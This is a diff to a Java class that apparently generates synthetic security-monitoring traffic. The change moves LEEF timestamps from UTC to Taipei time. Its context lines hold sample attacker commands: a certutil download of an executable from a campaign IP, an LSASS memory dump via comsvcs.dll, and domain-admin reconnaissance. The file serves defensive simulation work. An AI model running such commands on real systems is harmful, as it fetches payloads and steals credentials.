@@ -1,7 +1,6 @@
 package org.finres.demo;
 
 import java.time.Instant;
-import java.time.ZoneOffset;
 import java.time.format.DateTimeFormatter;
 import java.util.ArrayList;
 import java.util.List;
@@ -27,8 +26,9 @@ final class SocTraffic {
             "certutil.exe -urlcache -split -f http://" + CAMPAIGN_IP + "/a.exe C:\\\\Users\\\\Public\\\\a.exe",
             "rundll32.exe C:\\\\Windows\\\\System32\\\\comsvcs.dll, MiniDump 624 C:\\\\Temp\\\\lsass.dmp full",
             "cmd.exe /c whoami /priv & net group \\\"domain admins\\\" /domain"};
+    // LEEF's devTime carries no zone; the hub reads such times as Taiwan's, as a Taiwanese appliance writes them.
     private static final DateTimeFormatter LEEF_TIME = DateTimeFormatter.ofPattern("MMM dd yyyy HH:mm:ss", Locale.ENGLISH)
-            .withZone(ZoneOffset.UTC);
+            .withZone(java.time.ZoneId.of("Asia/Taipei"));
 
     private final String prefix;
     private final RandomGenerator random;
